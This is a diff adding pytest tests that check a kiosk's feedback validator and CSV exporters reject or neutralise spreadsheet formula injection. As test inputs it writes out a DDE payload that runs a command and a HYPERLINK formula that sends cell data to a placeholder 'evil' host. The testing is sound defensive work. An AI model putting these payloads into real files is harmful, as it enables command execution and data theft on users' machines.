@@ -105,3 +105,46 @@ def test_the_kiosk_refuses_store_dash_in_its_settings():
 
     with pytest.raises(ConfigError, match="store_id='-'"):
         KioskConfig(store_id="-")
+
+
+@pytest.mark.parametrize("field, value", [("chooser", "=cmd|' /C calc'!A0"), ("chooser", "staff:=1+1"),
+                                          ("last_sku", '=HYPERLINK("http://evil/?"&A1,"ok")'),
+                                          ("last_sku", {"a": [1, 2]}), ("last_sku", "x" * 5_000_000)])
+def test_a_chooser_or_last_sku_that_is_not_one_refuses_the_record(field, value):
+    from kiosk.exchange.feedback import validate_record
+
+    rec = record("e1", None, "none") | {field: value}
+    assert f"field(s) {field} " in validate_record(rec)
+    assert validate_record(record("e1", "banana", "staff", chooser="staff:101") | {"last_sku": "banana"}) is None
+
+
+def test_every_head_office_csv_cell_a_spreadsheet_would_run_is_neutralised(tmp_path):
+    import csv
+
+    from trainer.data.manifest import read_manifest
+
+    ho = tmp_path / "ho"  # "-A1" and "-2" are ids (store, kiosk): a spreadsheet reads them as formulas
+    put_batch(ho, "-A1", "-2", [record("p1", "banana", "staff"), record("p2", None, "none")],
+              {"p1": crop(1), "p2": crop(2)})
+    collect_feedback(str(ho), tmp_path / "out", progress=False)
+    for name in ("feedback.csv", "unlabelled.csv"):
+        with open(tmp_path / "out" / name, encoding="utf-8", newline="") as fh:
+            rows = list(csv.DictReader(fh))
+        assert (rows[0]["store"], rows[0]["kiosk"]) == ("'-A1", "'-2"), name
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for v in r.values())
+    [row] = read_manifest(tmp_path / "out" / "feedback.csv")  # given back exactly
+    assert (row.extra["store"], row.extra["kiosk"], row.sku) == ("-A1", "-2", "banana")
+
+
+def test_new_products_from_a_store_are_written_formula_safe(tmp_path, capsys):
+    from kiosk.cli import main
+    from tests.trainer.headoffice.seed import PRODUCTS
+    from tests.trainer.headoffice.test_taught import put_enrollment
+
+    evil = dict(PRODUCTS["garlic"], sku="zz-newfruit", name="=cmd|' /C calc'!A0", group="@SUM(1+1)*cmd|' /C calc'!A0")
+    put_enrollment(tmp_path / "ho", "K9", 4, "zz-newfruit", "2026-12-01T10:00:00+05:30", evil)
+    out = tmp_path / "new.csv"
+    assert main(["report", "taught", str(tmp_path / "ho"), "--new-products", str(out)]) == 0
+    capsys.readouterr()
+    text = out.read_text(encoding="utf-8")
+    assert "'=cmd|' /C calc'!A0" in text and "'@SUM(1+1)" in text and ",=" not in text and ",@" not in text
